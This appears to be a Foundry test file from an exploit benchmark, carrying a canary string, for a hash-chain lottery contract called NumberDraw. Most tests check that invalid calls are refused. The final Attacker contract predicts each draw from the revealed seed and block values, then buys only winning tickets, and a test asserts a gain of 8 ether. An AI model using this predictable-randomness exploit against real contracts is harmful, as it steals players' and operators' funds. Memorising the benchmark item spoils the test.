// SPDX-License-Identifier: MIT
// canary: assay-canary-1bb5b0ba-5633-46fd-b6d9-7deac446f9f0
pragma solidity 0.8.19;

import "./NumberDraw.sol";

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function roll(uint256 number) external;
    function prank(address who) external;
    function startPrank(address who) external;
    function stopPrank() external;
    function addr(uint256 key) external returns (address);
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// Owns a lottery of its own, and takes no ether.
contract Closed {
    NumberDraw public draw = new NumberDraw(bytes32(uint256(1)));

    function withdraw() external {
        draw.withdraw(1 ether);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    NumberDraw internal draw;
    Attacker internal mallory;
    address internal ana;
    bytes32[4] internal chain;

    function setUp() public {
        vm.warp(1750000000);
        vm.roll(1000);
        ana = vm.addr(0xA11CE);
        vm.deal(ana, 10 ether);

        // chain[3] is the end of the chain, chain[0] the seed revealed last
        chain[0] = keccak256("secret six");
        for (uint256 i = 1; i < 4; i++) chain[i] = keccak256(abi.encode(chain[i - 1]));

        vm.deal(address(this), 12 ether);
        draw = new NumberDraw{value: 12 ether}(chain[3]);

        // one round has been drawn already
        draw.closeSale();
        draw.reveal(chain[2]);

        mallory = new Attacker(draw);
        vm.deal(address(mallory), 1 ether);
    }

    receive() external payable {}

    function test_Regular() public {
        uint256[] memory ids = new uint256[](10);
        for (uint8 k = 0; k < 10; k++) {
            vm.prank(ana);
            ids[k] = draw.buy{value: 0.1 ether}(k);
        }
        require(draw.ticketCount() == 10 && draw.reserved() == 9 ether, "sold");
        draw.closeSale();
        draw.reveal(chain[1]);
        require(draw.round() == 2 && draw.seeds(2) == chain[1] && draw.saleOpen(), "revealed");

        uint256 before = ana.balance;
        uint256 won = 0;
        for (uint8 k = 0; k < 10; k++) {
            if (draw.drawn(ids[k]) == k) won += 0.9 ether;
            draw.settle(ids[k]);
        }
        require(ana.balance == before + won, "prizes");
        require(draw.reserved() == 0, "nothing kept back");

        draw.withdraw(address(draw).balance);
        vm.warp(block.timestamp + 7 days + 1);
        draw.end();
        require(draw.ended() && !draw.saleOpen(), "ended");

        (bool ok, ) = address(draw).call{value: 1 ether}("");
        require(ok && address(draw).balance == 1 ether, "filled");
        draw.transferOwnership(ana);
        vm.startPrank(ana);
        draw.acceptOwnership();
        draw.renounceOwnership();
        vm.stopPrank();
        require(draw.owner() == address(0), "renounced");
    }

    // What is refused, each from the state after setUp().

    function foreign() internal {
        vm.prank(ana);
        vm.expectRevert(bytes("Ownable: caller is not the owner"));
    }

    /// What is the owner's.
    function test_RefusesPlayers() public {
        foreign();
        draw.closeSale();
        foreign();
        draw.withdraw(1);
        foreign();
        draw.transferOwnership(ana);
        foreign();
        draw.renounceOwnership();
        vm.prank(ana);
        vm.expectRevert(bytes("Ownable2Step: caller is not the new owner"));
        draw.acceptOwnership();
        draw.closeSale();
        foreign();
        draw.reveal(chain[1]);
        vm.expectRevert(abi.encodeWithSelector(NumberDraw.SaleIsClosed.selector, 1));
        draw.closeSale();
    }

    function test_RefusesSeeds() public {
        vm.expectRevert(SeedChain.EmptySeed.selector);
        new NumberDraw(0);
        vm.expectRevert(abi.encodeWithSelector(NumberDraw.SaleIsOpen.selector, 1));
        draw.reveal(chain[1]);
        draw.closeSale();
        vm.expectRevert(abi.encodeWithSelector(SeedChain.SeedMismatch.selector, 1));
        draw.reveal(chain[0]);
        vm.prank(ana);
        vm.expectRevert(abi.encodeWithSelector(NumberDraw.SaleIsClosed.selector, 1));
        draw.buy{value: 0.1 ether}(1);
        uint256 deadline = draw.deadline();
        vm.warp(deadline + 1);
        vm.expectRevert(abi.encodeWithSelector(NumberDraw.DeadlinePassed.selector, deadline));
        draw.reveal(chain[1]);
        draw.end();
        vm.expectRevert(abi.encodeWithSelector(NumberDraw.DeadlinePassed.selector, deadline));
        draw.reveal(chain[1]);
    }

    /// Tickets that are none, cost something else, or cannot be covered.
    function test_RefusesTickets() public {
        vm.startPrank(ana);
        vm.expectRevert(abi.encodeWithSelector(NumberDraw.WrongPrice.selector, 0.2 ether));
        draw.buy{value: 0.2 ether}(1);
        vm.expectRevert(abi.encodeWithSelector(NumberDraw.UnknownNumber.selector, 10));
        draw.buy{value: 0.1 ether}(10);
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(NumberDraw.UnknownTicket.selector, 99));
        draw.drawn(99);
        vm.prank(ana);
        uint256 id = draw.buy{value: 0.1 ether}(1);
        (, , uint64 round, ) = draw.tickets(id);
        (bool told, ) = address(draw).call(abi.encodeCall(draw.drawn, (id)));
        require(told == (draw.seeds(round) != 0), "drawn before its seed");
        vm.expectRevert(abi.encodeWithSelector(NumberDraw.InsufficientFunds.selector, 11.5 ether, 11.2 ether));
        draw.withdraw(11.5 ether);
        draw.withdraw(11.2 ether);
        vm.prank(ana);
        vm.expectRevert(abi.encodeWithSelector(NumberDraw.InsufficientFunds.selector, 1.8 ether, 1 ether));
        draw.buy{value: 0.1 ether}(1);
        uint256 deadline = draw.deadline();
        vm.warp(deadline + 1);
        vm.prank(ana);
        vm.expectRevert(abi.encodeWithSelector(NumberDraw.DeadlinePassed.selector, deadline));
        draw.buy{value: 0.1 ether}(1);
    }

    /// What a round that ended, or did not, does not allow.
    function test_RefusesEnds() public {
        vm.prank(ana);
        uint256 id = draw.buy{value: 0.1 ether}(1);
        uint256 deadline = draw.deadline();
        vm.expectRevert(abi.encodeWithSelector(NumberDraw.NotRefundable.selector, id));
        draw.refund(id);
        draw.closeSale();
        vm.warp(deadline);
        vm.expectRevert(abi.encodeWithSelector(NumberDraw.DeadlineNotPassed.selector, deadline));
        draw.end();
        vm.warp(deadline + 1);
        draw.end();
        vm.expectRevert(abi.encodeWithSelector(NumberDraw.SaleIsClosed.selector, 1));
        draw.end();
        vm.expectRevert(abi.encodeWithSelector(NumberDraw.NotRefundable.selector, id + 1));
        draw.refund(id + 1);
    }

    /// Nothing is paid to nobody, nor twice, nor to who takes no ether.
    function test_RefusesRefunds() public {
        vm.prank(ana);
        uint256 id = draw.buy{value: 0.1 ether}(1);
        address closed = address(new Closed());
        vm.deal(closed, 0.1 ether);
        vm.prank(closed);
        uint256 lost = draw.buy{value: 0.1 ether}(1);
        draw.closeSale();
        vm.warp(block.timestamp + 7 days + 1);
        draw.end();
        (, , uint64 round, ) = draw.tickets(id);
        (bool back, ) = address(draw).call(abi.encodeCall(draw.refund, (id)));
        require(back == (draw.seeds(round) == 0), "a ticket that is drawn is not given back");
        (bool paid, ) = address(draw).call(abi.encodeCall(draw.refund, (lost)));
        require(!paid, "to who takes no ether");
        vm.expectRevert(abi.encodeWithSelector(NumberDraw.NotRefundable.selector, 99));
        draw.refund(99);
    }

    /// The owner may be somebody who takes no ether.
    function test_RefusesFailedPayments() public {
        Closed closed = new Closed();
        vm.deal(address(closed.draw()), 1 ether);
        vm.expectRevert(bytes("Address: unable to send value, recipient may have reverted"));
        closed.withdraw();
    }

    function exploit() public {
        mallory.run(10);
    }

    function test_Exploit() public {
        uint256 before = address(mallory).balance;
        exploit();
        require(address(mallory).balance >= before + 8 ether, "no gain");
    }

    function target() public view returns (address) {
        return address(draw);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    NumberDraw internal draw;

    constructor(NumberDraw draw_) {
        draw = draw_;
    }

    function run(uint256 times) external {
        bytes32 seed = draw.seeds(draw.round());
        for (uint256 i = 0; i < times; i++) {
            bytes32 salt = keccak256(
                abi.encode(blockhash(block.number - 1), block.prevrandao, address(this), draw.ticketCount())
            );
            uint8 number = uint8(uint256(keccak256(abi.encode(seed, salt))) % 10);
            uint256 id = draw.buy{value: 0.1 ether}(number);
            draw.settle(id);
        }
    }

    receive() external payable {}
}
